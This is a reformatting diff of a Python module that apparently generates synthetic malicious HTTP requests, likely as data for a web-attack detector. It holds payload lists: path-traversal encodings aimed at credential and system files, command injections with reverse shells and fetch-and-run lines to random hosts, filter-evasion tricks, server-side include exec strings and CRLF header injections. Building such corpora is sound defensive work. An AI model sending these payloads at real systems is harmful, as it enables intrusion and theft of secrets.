@@ -10,100 +10,23 @@ from weir_models.request_attack.corpus.placing import PATHS, Request, browser, r
 
 R = random.Random
 
-FILES = [
-    "etc/passwd",
-    "etc/shadow",
-    "etc/hosts",
-    "etc/group",
-    "etc/issue",
-    "proc/self/environ",
-    "proc/version",
-    "var/log/apache2/access.log",
-    "windows/win.ini",
-    "boot.ini",
-    "windows/system32/drivers/etc/hosts",
-    "WEB-INF/web.xml",
-    "etc/nginx/nginx.conf",
-    "root/.ssh/id_rsa",
-    "home/user/.bash_history",
-    "var/www/html/config.php",
-    "etc/mysql/my.cnf",
-    "winnt/win.ini",
-    "inetpub/logs",
-    "usr/local/etc/php.ini",
-    "etc/crontab",
-]
-COMMANDS = (
-    "id",
-    "whoami",
-    "ls",
-    "ls -la",
-    "ls /",
-    "cat /etc/passwd",
-    "uname -a",
-    "ps aux",
-    "netstat -an",
-    "ifconfig",
-    "pwd",
-    "env",
-    "dir",
-    "dir c:\\",
-    "ipconfig /all",
-    "type c:\\windows\\win.ini",
-    "net user",
-    "hostname",
-    "ping -c 3 127.0.0.1",
-    "ping -n 5 127.0.0.1",
-    "sleep 5",
-    "sleep 10",
-    "echo x",
-    "printenv",
-    "df -h",
-    "cat /etc/hosts",
-    "tail /var/log/syslog",
-    "find / -name x",
-    "rm -rf /tmp/x",
-    "touch /tmp/x",
-    "which python",
-    "systeminfo",
-    "tasklist",
-    "ver",
-    "set",
-    "w",
-    "last",
-    "reboot",
-    "cat config.php",
-    "grep root /etc/passwd",
-    "set /a 7*191",
-)
+FILES = """
+    etc/passwd etc/shadow etc/hosts etc/group etc/issue proc/self/environ proc/version var/log/apache2/access.log
+    windows/win.ini boot.ini windows/system32/drivers/etc/hosts WEB-INF/web.xml etc/nginx/nginx.conf
+    root/.ssh/id_rsa home/user/.bash_history var/www/html/config.php etc/mysql/my.cnf winnt/win.ini inetpub/logs
+    usr/local/etc/php.ini etc/crontab
+""".split()
+COMMANDS = ("id", "whoami", "ls", "ls -la", "ls /", "cat /etc/passwd", "uname -a", "ps aux", "netstat -an", "ifconfig", "pwd", "env", "dir",
+    "dir c:\\", "ipconfig /all", "type c:\\windows\\win.ini", "net user", "hostname", "ping -c 3 127.0.0.1", "ping -n 5 127.0.0.1",
+    "sleep 5", "sleep 10", "echo x", "printenv", "df -h", "cat /etc/hosts", "tail /var/log/syslog", "find / -name x", "rm -rf /tmp/x",
+    "touch /tmp/x", "which python", "systeminfo", "tasklist", "ver", "set", "w", "last", "reboot", "cat config.php",
+    "grep root /etc/passwd", "set /a 7*191")  # fmt: skip
 
 
 def climbing(r: R) -> str:
     """Up the tree and down to a file."""
-    up = r.choice(
-        (
-            "../",
-            "../",
-            "..\\",
-            "....//",
-            "..;/",
-            ".././",
-            "..//",
-            "..\\/",
-            "..%2f",
-            "..%252f",
-            "%2e%2e/",
-            "%2e%2e%2f",
-            "..%c0%af",
-            "..%5c",
-            "%c0%ae%c0%ae/",
-            "..%u2215",
-            "/..",
-            "\\..",
-            "..0x2f",
-            "..../",
-        )
-    )
+    up = r.choice(("../", "../", "..\\", "....//", "..;/", ".././", "..//", "..\\/", "..%2f", "..%252f", "%2e%2e/", "%2e%2e%2f", "..%c0%af",
+        "..%5c", "%c0%ae%c0%ae/", "..%u2215", "/..", "\\..", "..0x2f", "..../"))  # fmt: skip
     return (
         r.choice(("", "", "/", word(r) + "/", "static/", "./"))
         + up * r.randint(1, 12)
@@ -131,42 +54,18 @@ def _word_in_quotes(r: R, command: str) -> str:
 
 def _command(r: R) -> str:
     host = f"{word(r)}.com"
-    made = r.choice(
-        (
-            r.choice(COMMANDS),
-            r.choice(COMMANDS),
-            f"wget http://{host}/{word(r)}.sh",
-            f"curl http://{host}/{word(r)}",
-            f"nslookup {host}",
-            f"nc -e /bin/sh {host} {r.randint(80, 9999)}",
-            f"bash -i >& /dev/tcp/10.0.0.{r.randint(1, 9)}/{r.randint(80, 9999)} 0>&1",
-            f"/bin/{r.choice(('cat', 'ls', 'id', 'sh', 'ping', 'sleep 5', 'bash -c id'))}",
-            f"/usr/bin/{r.choice(('id', 'whoami', 'wget', 'perl', 'env'))}",
-            "python -c 'import os;os.system(\"id\")'",
-            "perl -e 'system(\"id\")'",
-            f"powershell -enc {word(r)}",
-            f"cmd /c {r.choice(('dir', 'whoami', 'ipconfig'))}",
-            "cmd.exe /c dir",
-            f"expr {r.randint(1, 999)} + {r.randint(1, 999)}",
-            f"chmod 777 {word(r)}",
-            "cat$IFS/etc/passwd",
-            "cat${IFS}/etc/passwd",
-            f"ping$IFS-c${{IFS}}1$IFS{host}",
-            "{cat,/etc/passwd}",
-            "cat</etc/passwd",
-            f"wget http://{host}/x -O- | sh",
-            f"echo {word(r)} | base64 -d | sh",
-            f"cd /tmp; wget http://{host}/{word(r)}; chmod +x {word(r)}; ./{word(r)}",
-            "/???/??t /???/p??s??",
-            f"printf {word(r)}|sh",
-            f"getent hosts {host}",
-            f"echo $(({r.randint(1, 999)}*{r.randint(1, 999)}))",
-            "cat /etc/pass*",
-            f"busybox telnetd -p {r.randint(1, 9999)}",
-            f"tftp -g -r {word(r)} {host}",
-            f"certutil -urlcache -f http://{host}/x.exe x.exe",
-        )
-    )
+    made = r.choice((r.choice(COMMANDS), r.choice(COMMANDS), f"wget http://{host}/{word(r)}.sh", f"curl http://{host}/{word(r)}",
+        f"nslookup {host}", f"nc -e /bin/sh {host} {r.randint(80, 9999)}",
+        f"bash -i >& /dev/tcp/10.0.0.{r.randint(1, 9)}/{r.randint(80, 9999)} 0>&1",
+        f"/bin/{r.choice(('cat', 'ls', 'id', 'sh', 'ping', 'sleep 5', 'bash -c id'))}",
+        f"/usr/bin/{r.choice(('id', 'whoami', 'wget', 'perl', 'env'))}", "python -c 'import os;os.system(\"id\")'",
+        "perl -e 'system(\"id\")'", f"powershell -enc {word(r)}", f"cmd /c {r.choice(('dir', 'whoami', 'ipconfig'))}", "cmd.exe /c dir",
+        f"expr {r.randint(1, 999)} + {r.randint(1, 999)}", f"chmod 777 {word(r)}", "cat$IFS/etc/passwd", "cat${IFS}/etc/passwd",
+        f"ping$IFS-c${{IFS}}1$IFS{host}", "{cat,/etc/passwd}", "cat</etc/passwd", f"wget http://{host}/x -O- | sh",
+        f"echo {word(r)} | base64 -d | sh", f"cd /tmp; wget http://{host}/{word(r)}; chmod +x {word(r)}; ./{word(r)}",
+        "/???/??t /???/p??s??", f"printf {word(r)}|sh", f"getent hosts {host}", f"echo $(({r.randint(1, 999)}*{r.randint(1, 999)}))",
+        "cat /etc/pass*", f"busybox telnetd -p {r.randint(1, 9999)}", f"tftp -g -r {word(r)} {host}",
+        f"certutil -urlcache -f http://{host}/x.exe x.exe"))  # fmt: skip
     return _word_in_quotes(r, made)
 
 
@@ -218,58 +117,20 @@ def shellshock(r: R) -> Request:
 
 def include(r: R) -> str:
     """Server-side includes."""
-    return r.choice(
-        (
-            f'<!--#exec cmd="{_command(r)}"-->',
-            '<!--#include virtual="/etc/passwd"-->',
-            '<!--#include file="/proc/version"-->',
-            '<!--#echo var="DATE_LOCAL" -->',
-            f"<!--#exec cmd='{r.choice(COMMANDS)}' -->",
-            "<!--#printenv -->",
-            f'--><!--#exec cmd="{r.choice(COMMANDS)}"--><!--',
-        )
-    )
+    return r.choice((f'<!--#exec cmd="{_command(r)}"-->', '<!--#include virtual="/etc/passwd"-->', '<!--#include file="/proc/version"-->',
+        '<!--#echo var="DATE_LOCAL" -->', f"<!--#exec cmd='{r.choice(COMMANDS)}' -->", "<!--#printenv -->",
+        f'--><!--#exec cmd="{r.choice(COMMANDS)}"--><!--'))  # fmt: skip
 
 
 def header(r: R) -> str:
     """Line ends that begin a header, a body or a command of another protocol."""
-    end = r.choice(
-        (
-            "\r\n",
-            "\n",
-            "\r",
-            "%0d%0a",
-            "%0a",
-            "%0D%0A",
-            "%0d%0a%20",
-            "\\r\\n",
-            "%E5%98%8D%E5%98%8A",
-            "%23%0d%0a",
-            "\r\n\t",
-            "%250d%250a",
-            "%3f%0d%0a",
-        )
-    )
-    made = r.choice(
-        (
-            f"Set-Cookie: {word(r)}={word(r)}",
-            f"Location: http://{word(r)}.com/",
-            "Content-Length: 0",
-            f"X-{word(r).title()}: {word(r)}",
-            f"{word(r).title()}-{word(r).title()}: {word(r)}",
-            f"Content-Type: text/html{end}{end}<b>{word(r)}</b>",
-            f"HTTP/1.1 200 OK{end}Content-Length: 9",
-            f"GET /{word(r)} HTTP/1.1",
-            f"bcc: {word(r)}@{word(r)}.com",
-            f"RCPT TO:<{word(r)}@{word(r)}.com>",
-            "QUIT",
-            f"Host: {word(r)}.com",
-            f"A1 LOGIN {word(r)} {word(r)}",
-            "DATA",
-            "Transfer-Encoding: chunked",
-            f"Refresh: 0;url=http://{word(r)}.com",
-        )
-    )
+    end = r.choice(("\r\n", "\n", "\r", "%0d%0a", "%0a", "%0D%0A", "%0d%0a%20", "\\r\\n", "%E5%98%8D%E5%98%8A", "%23%0d%0a", "\r\n\t",
+        "%250d%250a", "%3f%0d%0a"))  # fmt: skip
+    made = r.choice((f"Set-Cookie: {word(r)}={word(r)}", f"Location: http://{word(r)}.com/", "Content-Length: 0",
+        f"X-{word(r).title()}: {word(r)}", f"{word(r).title()}-{word(r).title()}: {word(r)}",
+        f"Content-Type: text/html{end}{end}<b>{word(r)}</b>", f"HTTP/1.1 200 OK{end}Content-Length: 9", f"GET /{word(r)} HTTP/1.1",
+        f"bcc: {word(r)}@{word(r)}.com", f"RCPT TO:<{word(r)}@{word(r)}.com>", "QUIT", f"Host: {word(r)}.com",
+        f"A1 LOGIN {word(r)} {word(r)}", "DATA", "Transfer-Encoding: chunked", f"Refresh: 0;url=http://{word(r)}.com"))  # fmt: skip
     return f"{r.choice(('', word(r), str(r.randint(1, 99)), '/'))}{end}{made}{r.choice(('', '', end))}"
 
 
@@ -278,21 +139,8 @@ def strange(r: R) -> Request:
     path, query, method = r.choice(PATHS), None, "GET"
     kind = r.randint(0, 6)
     if kind == 0:
-        method = r.choice(
-            (
-                "TRACE",
-                "TRACK",
-                "CONNECT",
-                "DEBUG",
-                "PROPFIND",
-                "MKCOL",
-                "SEARCH",
-                "UNLOCK",
-                word(r).upper() + "X" * 14,
-                "GET\x00",
-                "!" + word(r),
-            )
-        )
+        method = r.choice(("TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND", "MKCOL", "SEARCH", "UNLOCK", word(r).upper() + "X" * 14,
+            "GET\x00", "!" + word(r)))  # fmt: skip
     elif kind == 1:
         method, path = (
             "PUT",
